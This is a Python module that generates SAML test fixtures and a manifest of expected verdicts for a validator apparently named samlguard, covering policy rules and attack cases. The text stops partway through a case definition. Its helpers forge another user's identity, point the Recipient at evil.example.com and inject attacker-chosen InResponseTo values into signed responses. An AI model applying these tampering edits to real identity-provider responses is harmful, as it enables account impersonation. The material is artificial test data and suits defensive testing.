"""Policy and attack fixtures (testdata/policy/, testdata/attacks/) and the
manifest testdata/cases.json. Imported by gen.py; stdlib only.

Every case is a Case: an unsigned template (built from gen.response() plus
exact text edits), the signing steps xmlsec1 performs (inner signature first),
an optional post-signing text edit (what the attacker does to the signed
bytes), the xmlsec1 verification results generate.sh asserts, and the
manifest entries (expected samlguard verdicts) written to cases.json.

    python3 gen.py plan       TSV plan that generate.sh executes
    python3 gen.py post NAME FILE
    python3 gen.py manifest   prints cases.json
"""

import base64
import hashlib
import json
import os
import re
import subprocess
import tempfile
import zlib

import gen
from gen import (A, R, ISSUER, TENANT, NS_SAML, NS_SAMLP, NS_DS, NS_XS, NS_XSI, EXC, EXC_WC, C14N10, ENV, XPATH, SIG,
                 DIGEST, PROFILES, AWS, SCD_NOT_ON_OR_AFTER, NOT_BEFORE, NOT_ON_OR_AFTER, AUTHN_INSTANT,
                 ISSUE_INSTANT, guid, response, signature, reference, std_sig, transform)

# ---------------------------------------------------------------------------
# Fixed strings of gen.response() templates (each occurs exactly once)

DSC = "namespace-uri()='http://www.w3.org/2000/09/xmldsig#'"
XP_A = f"/*[local-name()='Response']/*[local-name()='Assertion']/*[local-name()='Signature' and {DSC}]"
XP_R = f"/*[local-name()='Response']/*[local-name()='Signature' and {DSC}]"


def xp_sig_under(container):
    """The Signature of the Assertion that sits in element `container`."""
    return (f"//*[local-name()='{container}']/*[local-name()='Assertion']"
            f"/*[local-name()='Signature' and {DSC}]")


def xp_sig_of(id_):
    return f"//*[@ID=\"{id_}\"]/*[local-name()='Signature' and {DSC}]"


SIG_OPEN = f'<Signature xmlns="{NS_DS}">'
SIG_CLOSE = "</Signature>"
RESP_ISSUER = f'<Issuer xmlns="{NS_SAML}">{ISSUER}</Issuer>'
ASSN_ISSUER = f"<Issuer>{ISSUER}</Issuer>"
BEARER = 'Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"'
SUCCESS = '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/>'
RESPONDER = ('<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder">'
             '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:RequestDenied"/></samlp:StatusCode>')
COND_OPEN = f'<Conditions NotBefore="{NOT_BEFORE}" NotOnOrAfter="{NOT_ON_OR_AFTER}">'
AUTHN_OPEN = f'<AuthnStatement AuthnInstant="{AUTHN_INSTANT}" SessionIndex="{A}">'
EMAIL = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
OTHER_TENANT = "0b5e7d3c-1111-4222-8333-9a8b7c6d5e4f"
OTHER_ISSUER = f"https://sts.windows.net/{OTHER_TENANT}/"
EVIL_R = "_evil_response_ID"
EVIL_A = "_evil_assertion_ID"
FORGED_EMAIL = "mallory@example.com"
FORGED_PERSISTENT = "m4ll0ryPersistentIdOfTheAttacker000000000"
FORBIDDEN_FORGED = [FORGED_EMAIL, FORGED_PERSISTENT]
IRT_ATTACKER = "id-attacker-chosen-0000000000000000"
OTHER_ACS = "https://evil.example.com/acs"
EMPTY_SHA256 = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
C14N10_WC = C14N10 + "#WithComments"
ROLE = AWS + "Role"
RSN = AWS + "RoleSessionName"
DURATION = AWS + "SessionDuration"
TAG = AWS + "PrincipalTag:"
TRANSITIVE = AWS + "TransitiveTagKeys"
ROLE_ADMIN = "arn:aws:iam::123456789012:role/Admin"
PROVIDER = "arn:aws:iam::123456789012:saml-provider/EntraID"


def p(profile, key):
    return PROFILES[profile][key]


def scd(profile):
    irt = f' InResponseTo="{p(profile, "irt")}"' if p(profile, "irt") else ""
    return f'<SubjectConfirmationData{irt} NotOnOrAfter="{SCD_NOT_ON_OR_AFTER}" Recipient="{p(profile, "acs")}"/>'


def audience_restriction(profile):
    return f'<AudienceRestriction><Audience>{p(profile, "audience")}</Audience></AudienceRestriction>'


def name_id(profile):
    return f'<NameID Format="{p(profile, "nameid_format")}">{p(profile, "nameid")}</NameID>'


def subject_confirmation(profile):
    return f"<SubjectConfirmation {BEARER}>{scd(profile)}</SubjectConfirmation>"


# ---------------------------------------------------------------------------
# Text edits


def once(doc, old, new):
    n = doc.count(old)
    if n != 1:
        raise SystemExit(f"suite: {old[:80]!r} occurs {n} times, expected 1")
    return doc.replace(old, new)


def apply(doc, edits):
    for e in edits:
        doc = e(doc) if callable(e) else once(doc, *e)
    return doc


def attr_re(name):
    return re.compile(r'<Attribute Name="' + re.escape(name) + r'">.*?</Attribute>', re.S)


def attribute(name, values):
    return (f'<Attribute Name="{name}">'
            + "".join(f"<AttributeValue>{v}</AttributeValue>" for v in values) + "</Attribute>")


def set_attr(name, values):
    def f(doc):
        new, n = attr_re(name).subn(lambda m: attribute(name, values), doc)
        if n != 1:
            raise SystemExit(f"suite: attribute {name} found {n} times")
        return new
    return f


def drop_attr(name):
    def f(doc):
        new, n = attr_re(name).subn("", doc)
        if n != 1:
            raise SystemExit(f"suite: attribute {name} found {n} times")
        return new
    return f


def add_attr(name, values):
    return ("</AttributeStatement>", attribute(name, values) + "</AttributeStatement>")


def span(doc, open_, close, start=0):
    i = doc.index(open_, start)
    return i, doc.index(close, i) + len(close)


def assertion_span(doc):
    return span(doc, f'<Assertion xmlns="{NS_SAML}"', "</Assertion>")


def assertion_sig_span(doc):
    return span(doc, SIG_OPEN, SIG_CLOSE, assertion_span(doc)[0])


def response_sig_span(doc):
    i = doc.index(RESP_ISSUER) + len(RESP_ISSUER)
    if not doc.startswith(SIG_OPEN, i):
        raise SystemExit("suite: no Response signature after the Response Issuer")
    return span(doc, SIG_OPEN, SIG_CLOSE, i)


def cut(doc, s):
    return doc[:s[0]] + doc[s[1]:]


def text_of(doc, s):
    return doc[s[0]:s[1]]


def strip_sig(text):
    return cut(text, span(text, SIG_OPEN, SIG_CLOSE))


def set_ids(text, response_id=None, assertion_id=None):
    if response_id:
        text = text.replace(f' ID="{R}"', f' ID="{response_id}"')
    if assertion_id:
        text = text.replace(f' ID="{A}"', f' ID="{assertion_id}"')
    return text


def forge(text):
    """What the attacker wants reported: another user."""
    return (text.replace("alice@example.com", FORGED_EMAIL)
            .replace(p("aws-console", "nameid"), FORGED_PERSISTENT))


def insert_before_status(doc, xml):
    return once(doc, "<samlp:Status>", xml + "<samlp:Status>")


def sha256_b64(data):
    return base64.b64encode(hashlib.sha256(data).digest()).decode()


def exc_c14n_digest(xml_text):
    """SHA-256 of the exclusive canonical form (xmllint) of a standalone
    element. An Assertion declares its own namespace, so standalone and
    in-context exc-c14n are the same bytes."""
    with tempfile.NamedTemporaryFile("w", suffix=".xml", delete=False, encoding="utf-8") as f:
        f.write(xml_text)
        path = f.name
    try:
        out = subprocess.run(["xmllint", "--exc-c14n", path], check=True, capture_output=True).stdout
    finally:
        os.unlink(path)
    return sha256_b64(out)


def digest_value(text):
    return re.search(r"<DigestValue>([^<]*)</DigestValue>", text).group(1)


def checked_digest_of_assertion(doc):
    """digest(Assertion minus its Signature); asserts it reproduces the genuine
    DigestValue, so the helper is trustworthy for forged content."""
    a = text_of(doc, assertion_span(doc))
    got = exc_c14n_digest(strip_sig(a))
    if got != digest_value(a):
        raise SystemExit("suite: xmllint exc-c14n digest does not reproduce xmlsec1's DigestValue")
    return got


# ---------------------------------------------------------------------------
# Cases

CASES = []
GENERATED = []

TRUST = "metadata/entra.xml"
DEFAULT_SIGS = {"clientvpn": "both", "aws-console": "assertion", "generic": "both",
                "identity-center": "assertion"}
# The SP metadata the identity-center profile is configured from.
IDC_SP_METADATA = "metadata/identity-center-sp.xml"
GENERIC_AUDIENCES = [p("generic", "audience")]
GENERIC_ACS = [p("generic", "acs")]
NOW = "2026-01-15T10:01:00Z"


def base_template(profile, sigs, groups=20, typed=False, asig=None, rsig=None):
    a = asig if asig is not None else (std_sig(A) if sigs in ("both", "assertion") else None)
    r = rsig if rsig is not None else (std_sig(R) if sigs in ("both", "response") else None)
    return response(profile, groups=groups, asig=a, rsig=r, typed=typed)


def sign_steps(sigs, key):
    return {"both": [(XP_A, key), (XP_R, key)], "assertion": [(XP_A, key)],
            "response": [(XP_R, key)], "none": []}[sigs]


def label(xp):
    return {XP_A: "Assertion signature", XP_R: "Response signature"}.get(xp, xp)


class Case:
    def __init__(self, name, suite, cls, desc, profile, expect, edits=(), post=None, sigs=None, key="idp",
                 sign=None, checks=None, template=None, ext="xml", variants=(), groups=20, typed=False,
                 asig=None, rsig=None, **fields):
        self.name, self.path = name, f"{name}.{ext}"
        sigs = sigs or DEFAULT_SIGS[profile]
        if template is None:
            def template():
                return apply(base_template(profile, sigs, groups, typed, asig, rsig), edits)
        self.template = template
        self.post = post
        self.sign = sign_steps(sigs, key) if sign is None else sign
        if checks is None:
            cert = key
            checks = [(xp, cert, "OK") for xp, _ in self.sign]
        self.checks = checks
        entry = {"file": self.path, "suite": suite, "class": cls, "description": desc, "profile": profile,
                 "trust": TRUST, "now": NOW, "request_id": p(profile, "irt"), "allow_sha1": False,
                 "expect": expect}
        if profile == "generic":
            entry["audiences"], entry["acs_urls"] = GENERIC_AUDIENCES, GENERIC_ACS
        if profile == "identity-center":
            entry["sp_metadata"] = IDC_SP_METADATA
        if expect == "valid" and "expect_name_id" not in fields:
            fields["expect_name_id"] = p(profile, "nameid")
        entry.update(fields)
        if not checks:
            entry["xmlsec1"] = "n/a"
        else:
            entry["xmlsec1"] = "OK" if all(c[2] == "OK" for c in checks) else "FAIL"
            entry["xmlsec1_detail"] = "; ".join(f"{label(xp)} with {cert}: {r}" for xp, cert, r in checks)
        self.entries = [entry]
        for v in variants:
            e = dict(entry)
            if "profile" in v and v["profile"] != profile:
                e["request_id"] = p(v["profile"], "irt")
                e.pop("audiences", None), e.pop("acs_urls", None)
                if v["profile"] == "generic":
                    e["audiences"], e["acs_urls"] = GENERIC_AUDIENCES, GENERIC_ACS
            e.update(v)
            if e["expect"] != "valid":
                e.pop("expect_name_id", None)
                e.pop("expect_envelope", None)
            self.entries.append(e)
        CASES.append(self)


def policy(name, rule, desc, profile, expect, edits=(), **kw):
    return Case(f"policy/{name}", "policy", rule, desc, profile, expect, edits, **kw)


def attack(name, cls, desc, profile, expect, edits=(), **kw):
    return Case(f"attacks/{name}", "attack", cls, desc, profile, expect, edits, **kw)


def ref(file, suite, cls, desc, profile, expect, **fields):
    """A manifest entry for an existing file (another clock, profile, trust...)."""
    entry = {"file": file, "suite": suite, "class": cls, "description": desc, "profile": profile,
             "trust": TRUST, "now": NOW, "request_id": p(profile, "irt"), "allow_sha1": False,
             "expect": expect}
    if profile == "generic":
        entry["audiences"], entry["acs_urls"] = GENERIC_AUDIENCES, GENERIC_ACS
    if profile == "identity-center":
        entry["sp_metadata"] = IDC_SP_METADATA
    entry.update(fields)
    if profile == "generic" and "sp_metadata" in fields:
        # Configured from the SP metadata alone.
        entry.pop("audiences"), entry.pop("acs_urls")
    if "xmlsec1" not in entry:
        entry["xmlsec1"] = "OK"
    GENERATED.append(entry)


def generated(base_file, cls, desc, profile, expect, recipe, **fields):
    ref(base_file, "attack", cls, desc, profile, expect, generated=True, recipe=recipe, xmlsec1="n/a",
        **fields)


CV, AWSC, GEN = "clientvpn", "aws-console", "generic"
AWS_NAMEID = p(AWSC, "nameid")

# ===========================================================================
# policy/: one rule each; every signature verifies (xmlsec1 OK)
# ===========================================================================

# --- SubjectConfirmation ----------------------------------------------------
policy("clientvpn-not-bearer", "subject_confirmation_bearer",
       "SubjectConfirmation Method sender-vouches instead of bearer", CV, "not_bearer",
       [(BEARER, 'Method="urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"')])
policy("clientvpn-two-subject-confirmations", "subject_confirmation_count",
       "two bearer SubjectConfirmations (the second with another Recipient): the first satisfies every rule",
       CV, "valid",
       [("</SubjectConfirmation>", "</SubjectConfirmation>" + subject_confirmation(CV).replace(
           p(CV, "acs"), "https://self-service.clientvpn.amazonaws.com/api/auth/sso/saml"))])
policy("clientvpn-subject-confirmation-second-satisfies", "subject_confirmation_count",
       "a sender-vouches SubjectConfirmation, then one for another Recipient, then one that satisfies "
       "every rule: the last is used", CV, "valid",
       [("<SubjectConfirmation ", subject_confirmation(CV).replace(BEARER,
         'Method="urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"') + subject_confirmation(CV).replace(
           p(CV, "acs"), OTHER_ACS) + "<SubjectConfirmation ")])
policy("clientvpn-subject-confirmations-none-satisfies", "subject_confirmation_count",
       "a sender-vouches SubjectConfirmation then a bearer one for another Recipient: the bearer one's "
       "refusal is reported", CV, "recipient_mismatch",
       [(subject_confirmation(CV), subject_confirmation(CV).replace(BEARER,
         'Method="urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"') + subject_confirmation(CV).replace(
           p(CV, "acs"), OTHER_ACS))])
policy("clientvpn-scd-no-notonorafter", "subject_confirmation_data",
       "SubjectConfirmationData without NotOnOrAfter", CV, "missing_not_on_or_after",
       [(f' NotOnOrAfter="{SCD_NOT_ON_OR_AFTER}"', "")])
policy("clientvpn-scd-no-recipient", "recipient",
       "SubjectConfirmationData without Recipient", CV, "recipient_mismatch",
       [(f' Recipient="{p(CV, "acs")}"', "")])
policy("clientvpn-scd-child-element", "subject_confirmation_data",
       "SubjectConfirmationData holds a ds:KeyInfo child (holder-of-key shape)", CV, "subject_confirmation",
       [(scd(CV), scd(CV)[:-2] + f'><KeyInfo xmlns="{NS_DS}"><KeyName>alice</KeyName></KeyInfo>'
         "</SubjectConfirmationData>")])
policy("clientvpn-recipient-wrong", "recipient", "SubjectConfirmationData Recipient is another ACS URL",
       CV, "recipient_mismatch", [(f'Recipient="{p(CV, "acs")}"', f'Recipient="{OTHER_ACS}"')])
policy("clientvpn-destination-wrong", "destination", "Response Destination is another ACS URL (signed)",
       CV, "destination_mismatch", [(f'Destination="{p(CV, "acs")}"', f'Destination="{OTHER_ACS}"')])
policy("clientvpn-no-subject", "subject", "the Assertion has no Subject", CV, "no_subject",
       [lambda d: cut(d, span(d, "<Subject>", "</Subject>"))])
policy("clientvpn-two-subjects", "subject", "two Subject elements (second names another user)", CV,
       "duplicate_element",
       [lambda d: once(d, "</Subject>", "</Subject>" + forge(text_of(d, span(d, "<Subject>", "</Subject>"))))])

# --- Conditions / audience --------------------------------------------------
policy("clientvpn-no-audience-restriction", "audience_restriction",
       "Conditions with time bounds only, no AudienceRestriction", CV, "no_audience_restriction",
       [(audience_restriction(CV), "")])
policy("clientvpn-no-conditions", "audience_restriction", "no Conditions element at all", CV,
       "no_audience_restriction", [lambda d: cut(d, span(d, "<Conditions ", "</Conditions>"))])
policy("clientvpn-two-audience-restrictions", "audience_restriction",
       "two AudienceRestrictions (ANDed): ours and https://other.example.com", CV, "audience_mismatch",
       [(audience_restriction(CV), audience_restriction(CV)
         + "<AudienceRestriction><Audience>https://other.example.com</Audience></AudienceRestriction>")])
policy("clientvpn-two-audiences-one-restriction", "audience_restriction",
       "one AudienceRestriction with two Audiences (ORed): another one and ours", CV, "valid",
       [(audience_restriction(CV), "<AudienceRestriction><Audience>https://other.example.com</Audience>"
         f"<Audience>{p(CV, 'audience')}</Audience></AudienceRestriction>")])
policy("clientvpn-aws-console-audience", "audience",
       "audience https://signin.aws.amazon.com/saml sent to Client VPN", CV, "audience_mismatch",
       [(f"<Audience>{p(CV, 'audience')}</Audience>", "<Audience>https://signin.aws.amazon.com/saml</Audience>")])
policy("clientvpn-one-time-use", "conditions_allowed", "OneTimeUse condition (Client VPN allows only "
       "AudienceRestriction and time bounds)", CV, "unsupported_condition",
       [(audience_restriction(CV), audience_restriction(CV) + "<OneTimeUse/>")])
policy("clientvpn-proxy-restriction", "conditions_allowed", "ProxyRestriction condition", CV,
       "unsupported_condition",
       [(audience_restriction(CV), audience_restriction(CV)
         + f"<ProxyRestriction Count=\"0\"><Audience>{p(CV, 'audience')}</Audience></ProxyRestriction>")])
policy("generic-one-time-use", "conditions_allowed", "OneTimeUse condition: allowed by the generic profile",
       GEN, "valid", [(audience_restriction(GEN), audience_restriction(GEN) + "<OneTimeUse/>")])
policy("generic-unknown-condition", "conditions_unknown",
       "a saml:Condition with xsi:type of an unknown extension", GEN, "unsupported_condition",
       [(audience_restriction(GEN), audience_restriction(GEN)
         + f'<Condition xmlns:xsi="{NS_XSI}" xmlns:ex="urn:example:conditions" xsi:type="ex:Geofence"/>')])
policy("clientvpn-two-conditions", "conditions_count", "two Conditions elements", CV, "duplicate_element",
       [lambda d: once(d, "</Conditions>", "</Conditions>" + text_of(d, span(d, "<Conditions ", "</Conditions>")))])
policy("clientvpn-not-before-future", "time_window",
       "Conditions NotBefore 10:03:00Z, two minutes after the clock (skew is 60 s)", CV, "not_yet_valid",
       [(f'NotBefore="{NOT_BEFORE}"', 'NotBefore="2026-01-15T10:03:00Z"')],
       variants=[{"now": "2026-01-15T10:02:00Z", "expect": "valid",
                  "description": "Conditions NotBefore 10:03:00Z at 10:02:00Z: inside the 60 s skew",
                  "expect_name_id": "alice@example.com"}])

# --- Envelope ---------------------------------------------------------------
policy("clientvpn-response-version-1.1", "version", "samlp:Response Version=\"1.1\" (signed)", CV,
       "unsupported_version", [(f' ID="{R}" Version="2.0"', f' ID="{R}" Version="1.1"')])
policy("clientvpn-assertion-version-1.1", "version", "Assertion Version=\"1.1\" (signed)", CV,
       "unsupported_version", [(f' IssueInstant="{ISSUE_INSTANT}" Version="2.0">', f' IssueInstant="{ISSUE_INSTANT}" Version="1.1">')])
policy("generic-status-responder-no-assertion", "status",
       "signed error response: Status Responder/RequestDenied and no Assertion (Response signature only)",
       GEN, "assertion_count", sigs="response",
       edits=[(SUCCESS, RESPONDER), lambda d: cut(d, assertion_span(d))])
policy("clientvpn-status-responder", "status", "Status Responder with a signed Assertion", CV,
       "status_not_success", [(SUCCESS, RESPONDER)])
policy("clientvpn-assertion-issuer-other", "issuer", "Assertion Issuer is another tenant (signed by the "
       "pinned key)", CV, "issuer_mismatch", [(ASSN_ISSUER, f"<Issuer>{OTHER_ISSUER}</Issuer>")])
policy("clientvpn-response-issuer-other", "issuer", "Response Issuer is another tenant, Assertion Issuer "
       "correct", CV, "issuer_mismatch", [(RESP_ISSUER, RESP_ISSUER.replace(ISSUER, OTHER_ISSUER))])
policy("clientvpn-issue-instant-offset", "time_format",
       "Assertion IssueInstant 2026-01-15T10:00:00+00:00 (offset instead of Z)", CV, "invalid_time",
       [(f'ID="{A}" IssueInstant="{ISSUE_INSTANT}"', f'ID="{A}" IssueInstant="2026-01-15T10:00:00+00:00"')])
policy("clientvpn-two-authn-statements", "authn_statement", "two AuthnStatements", CV, "duplicate_element",
       [lambda d: once(d, "</AuthnStatement>", "</AuthnStatement>" + text_of(d, span(d, AUTHN_OPEN, "</AuthnStatement>")))])

# --- InResponseTo -----------------------------------------------------------
policy("clientvpn-scd-in-response-to-other", "in_response_to",
       "SubjectConfirmationData InResponseTo differs from the request (Response InResponseTo matches)",
       CV, "in_response_to_mismatch",
       [(f'<SubjectConfirmationData InResponseTo="{p(CV, "irt")}"',
         '<SubjectConfirmationData InResponseTo="id-0000000000000000000000000000beef"')],
       variants=[{"request_id": None, "description": "signed Response and SubjectConfirmationData "
                  "InResponseTo disagree (no request id expected)"}])
policy("clientvpn-idp-initiated", "in_response_to", "no InResponseTo anywhere (IdP-initiated)", CV,
       "in_response_to_missing",
       [lambda d: d.replace(f' InResponseTo="{p(CV, "irt")}"', "")],
       variants=[{"request_id": None, "description": "IdP-initiated, no request id expected: Client VPN "
                  "still requires InResponseTo"}])
policy("aws-console-unsigned-response-irt", "envelope_unsigned",
       "assertion-only signature; attacker added Response@InResponseTo (unsigned): ignored, values come "
       "from the Assertion only (envelope() is None)", AWSC, "valid",
       post=lambda d: once(d, f'Destination="{p(AWSC, "acs")}">',
                           f'Destination="{p(AWSC, "acs")}" InResponseTo="{IRT_ATTACKER}">'),
       expect_envelope=False,
       variants=[{"request_id": IRT_ATTACKER, "expect": "in_response_to_missing",
                  "description": "same; the request id equals the unsigned Response@InResponseTo: no signed "
                  "InResponseTo, so it does not count"}])
policy("generic-unsigned-response-irt", "envelope_unsigned",
       "assertion-only signature (Client VPN-like SP-initiated); attacker changed the unsigned "
       "Response@InResponseTo; the signed SubjectConfirmationData still answers the request", GEN, "valid",
       sigs="assertion",
       post=lambda d: once(d, f'InResponseTo="{p(GEN, "irt")}">', f'InResponseTo="{IRT_ATTACKER}">'),
       expect_envelope=False, forbidden_values=[IRT_ATTACKER],
       variants=[{"request_id": IRT_ATTACKER, "expect": "in_response_to_mismatch",
                  "description": "same, expecting the attacker's request id: the signed "
                  "SubjectConfirmationData InResponseTo decides"}])

# --- NameID / claims (Client VPN) -------------------------------------------
NID_CV = name_id(CV)
policy("clientvpn-nameid-unspecified", "name_id_format", "NameID Format unspecified", CV, "invalid_name_id",
       [(EMAIL, "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified")])
policy("clientvpn-nameid-not-email", "name_id_email", "emailAddress NameID 'alice' (not an address)", CV,
       "invalid_name_id", [(">alice@example.com</NameID>", ">alice</NameID>")])
EMAIL_255 = "a" * 243 + "@example.com"
EMAIL_256 = "a" * 244 + "@example.com"
policy("clientvpn-nameid-256", "name_id_length", "NameID email of 256 characters", CV, "invalid_name_id",
       [(">alice@example.com</NameID>", f">{EMAIL_256}</NameID>")])
policy("clientvpn-nameid-255", "name_id_length", "NameID email of exactly 255 characters", CV, "valid",
       [(">alice@example.com</NameID>", f">{EMAIL_255}</NameID>")], expect_name_id=EMAIL_255)
policy("clientvpn-nameid-child-element", "mixed_content", "NameID holds an element child", CV,
       "mixed_content", [(">alice@example.com</NameID>", '>alice@example.com<b xmlns="urn:example:x">x</b></NameID>')])
policy("clientvpn-audience-child-element", "mixed_content", "Audience holds an element child", CV,
       "mixed_content", [(f"<Audience>{p(CV, 'audience')}</Audience>",
                          f"<Audience>{p(CV, 'audience')}<b xmlns=\"urn:example:x\"/></Audience>")])
policy("clientvpn-issuer-child-element", "mixed_content", "Assertion Issuer holds an element child", CV,
       "mixed_content", [(ASSN_ISSUER, f'<Issuer>{ISSUER}<b xmlns="urn:example:x"/></Issuer>')])
policy("clientvpn-attributevalue-child-element", "mixed_content",
       "FirstName AttributeValue holds an element child", CV, "mixed_content",
       [("<AttributeValue>Alice</AttributeValue>", '<AttributeValue><b xmlns="urn:example:x">Alice</b></AttributeValue>')])
policy("clientvpn-memberof-missing", "groups", "no memberOf attribute", CV, "missing_groups",
       [drop_attr("memberOf")])
policy("clientvpn-group-overage", "groups", "Entra group-overage claim groups.link instead of memberOf", CV,
       "group_overage",
       [drop_attr("memberOf"), add_attr("http://schemas.microsoft.com/claims/groups.link",
        [f"https://graph.windows.net/{TENANT}/users/{guid('user-alice')}/getMemberObjects"])])
policy("clientvpn-201-groups", "groups", "201 memberOf values (AWS uses at most 200)", CV, "invalid_groups",
       groups=201)
policy("clientvpn-empty-group", "groups", "an empty memberOf value among 20", CV, "invalid_groups",
       [("<AttributeValue>" + guid("group-7") + "</AttributeValue>", "<AttributeValue></AttributeValue>")])
policy("clientvpn-group-256", "groups", "a memberOf value of 256 characters", CV, "invalid_groups",
       [("<AttributeValue>" + guid("group-7") + "</AttributeValue>", "<AttributeValue>" + "g" * 256 + "</AttributeValue>")])
policy("clientvpn-duplicate-attribute", "duplicate_attribute", "FirstName attribute twice", CV,
       "duplicate_attribute", [("</AttributeStatement>", attribute("FirstName", ["Mallory"]) + "</AttributeStatement>")])
policy("clientvpn-firstname-two-values", "single_valued", "FirstName with two values", CV, "invalid_claim",
       [set_attr("FirstName", ["Alice", "Mallory"])])
policy("clientvpn-self-service-portal", "acs", "Destination and Recipient = self-service portal ACS", CV,
       "valid", [lambda d: d.replace(p(CV, "acs"), "https://self-service.clientvpn.amazonaws.com/api/auth/sso/saml")])

# --- AWS console claims -----------------------------------------------------
policy("aws-console-both-signed", "signatures", "Assertion and Response signed", AWSC, "valid", sigs="both",
       expect_envelope=True)
policy("aws-console-audience-urn", "audience", "Audience urn:amazon:webservices", AWSC, "valid",
       [(f"<Audience>{p(AWSC, 'audience')}</Audience>", "<Audience>urn:amazon:webservices</Audience>")])
policy("aws-console-regional-acs", "acs", "Destination and Recipient https://eu-west-1.signin.aws.amazon.com/saml",
       AWSC, "valid", [lambda d: d.replace('="https://signin.aws.amazon.com/saml"',
                                           '="https://eu-west-1.signin.aws.amazon.com/saml"')])
policy("aws-console-empty-nameid", "name_id", "empty NameID", AWSC, "invalid_name_id",
       [(f">{AWS_NAMEID}</NameID>", "></NameID>")])
policy("aws-console-role-missing", "role", "no Role attribute", AWSC, "missing_role", [drop_attr(ROLE)])
policy("aws-console-role-two-role-arns", "role", "Role value with two role ARNs", AWSC, "invalid_role",
       [set_attr(ROLE, [f"{ROLE_ADMIN},arn:aws:iam::123456789012:role/ReadOnly"])])
policy("aws-console-role-accounts-differ", "role", "role and provider ARNs in different accounts", AWSC,
       "invalid_role", [set_attr(ROLE, [f"{ROLE_ADMIN},arn:aws:iam::210987654321:saml-provider/EntraID"])])
policy("aws-console-role-provider-first", "role", "only a provider-first pair (saml-provider ARN,role ARN)",
       AWSC, "valid", [set_attr(ROLE, [f"{PROVIDER},{ROLE_ADMIN}"])])
policy("aws-console-role-session-name-space", "role_session_name", "RoleSessionName 'alice example'",
       AWSC, "invalid_role_session_name", [set_attr(RSN, ["alice example"])])
policy("aws-console-role-session-name-missing", "role_session_name", "no RoleSessionName attribute", AWSC,
       "invalid_role_session_name", [drop_attr(RSN)])
for value, expect in [("899", "invalid_session_duration"), ("43201", "invalid_session_duration"),
                      ("3600.0", "invalid_session_duration"), ("43200", "valid")]:
    policy(f"aws-console-session-duration-{value}", "session_duration", f"SessionDuration {value}", AWSC,
           expect, [set_attr(DURATION, [value])])
policy("aws-console-source-identity", "source_identity", "SourceIdentity alice@example.com", AWSC, "valid",
       [add_attr(AWS + "SourceIdentity", ["alice@example.com"])])
policy("aws-console-source-identity-aws-prefix", "source_identity", "SourceIdentity 'aws:x'", AWSC,
       "invalid_source_identity", [add_attr(AWS + "SourceIdentity", ["aws:x"])])


def tags(n):
    def f(doc):
        doc = drop_attr(TRANSITIVE)(drop_attr(TAG + "Department")(doc))
        extra = "".join(attribute(f"{TAG}Tag{i:02d}", [f"value{i}"]) for i in range(n))
        return once(doc, "</AttributeStatement>", extra + "</AttributeStatement>")
    return f


policy("aws-console-51-tags", "session_tags", "51 PrincipalTag attributes (AWS allows 50)", AWSC,
       "invalid_session_tags", [tags(51)])
policy("aws-console-50-tags", "session_tags", "50 PrincipalTag attributes", AWSC, "valid", [tags(50)])
policy("aws-console-duplicate-tag-case", "session_tags",
       "PrincipalTag:Department and PrincipalTag:department (keys are case-insensitive)", AWSC,
       "invalid_session_tags", [add_attr(TAG + "department", ["Sales"])])
policy("aws-console-transitive-key-not-tag", "session_tags", "TransitiveTagKeys names CostCenter, not a tag",
       AWSC, "invalid_session_tags", [set_attr(TRANSITIVE, ["Department", "CostCenter"])])
policy("aws-console-session-not-on-or-after", "session_expiry",
       "AuthnStatement SessionNotOnOrAfter 10:03:00Z: valid at 10:01:00Z", AWSC, "valid",
       [(AUTHN_OPEN, AUTHN_OPEN[:-1] + ' SessionNotOnOrAfter="2026-01-15T10:03:00Z">')],
       variants=[{"now": "2026-01-15T10:04:00Z", "expect": "session_expired",
                  "description": "SessionNotOnOrAfter 10:03:00Z at 10:04:00Z (now - 60 s skew == "
                  "SessionNotOnOrAfter: half-open, ended)"}])

# --- Times as xs:dateTime defines them ---------------------------------------
policy("clientvpn-times-whitespace-fraction", "time_lexical",
       "NotOnOrAfter values with surrounding whitespace and 12 fractional digits (xs:dateTime allows both)",
       CV, "valid",
       [(f'NotOnOrAfter="{SCD_NOT_ON_OR_AFTER}"', 'NotOnOrAfter="\n  2026-01-15T10:05:00.000000000000Z  "'),
        (f'NotOnOrAfter="{NOT_ON_OR_AFTER}"', 'NotOnOrAfter=" 2026-01-15T11:05:00.123456789999Z\t"')])
policy("clientvpn-conditions-hour-24", "time_lexical",
       "Conditions NotOnOrAfter 2026-01-15T24:00:00Z: the next day's midnight", CV, "valid",
       [(f'NotOnOrAfter="{NOT_ON_OR_AFTER}"', 'NotOnOrAfter="2026-01-15T24:00:00Z"')])
policy("clientvpn-conditions-empty-window", "time_window",
       "Conditions NotBefore equal to NotOnOrAfter: a window no instant is in", CV, "empty_validity_window",
       [(f'NotBefore="{NOT_BEFORE}" NotOnOrAfter="{NOT_ON_OR_AFTER}"',
         'NotBefore="2026-01-15T10:00:30Z" NotOnOrAfter="2026-01-15T10:00:30Z"')])
policy("clientvpn-scd-reversed-window", "time_window",
       "SubjectConfirmationData NotBefore after its NotOnOrAfter", CV, "empty_validity_window",
       [(f'NotOnOrAfter="{SCD_NOT_ON_OR_AFTER}"', f'NotBefore="2026-01-15T10:06:00Z" NotOnOrAfter="{SCD_NOT_ON_OR_AFTER}"')])

# --- SAML structure ------------------------------------------------------------
policy("clientvpn-two-attribute-statements", "attribute_statements",
       "FirstName and LastName in a second AttributeStatement: one attribute set", CV, "valid",
       [drop_attr("FirstName"), drop_attr("LastName"),
        ("</AttributeStatement>", "</AttributeStatement><AttributeStatement>"
         + attribute("FirstName", ["Alice"]) + attribute("LastName", ["Example"]) + "</AttributeStatement>")])
policy("clientvpn-attribute-in-two-statements", "attribute_statements",
       "memberOf in the first AttributeStatement and again in a second one", CV, "duplicate_attribute",
       [("</AttributeStatement>", "</AttributeStatement><AttributeStatement>"
         + attribute("memberOf", ["4d0b1f0e-0000-4000-8000-00000000attk"]) + "</AttributeStatement>")])
policy("clientvpn-two-statuses", "status", "a second samlp:Status (Responder) after the Success one",
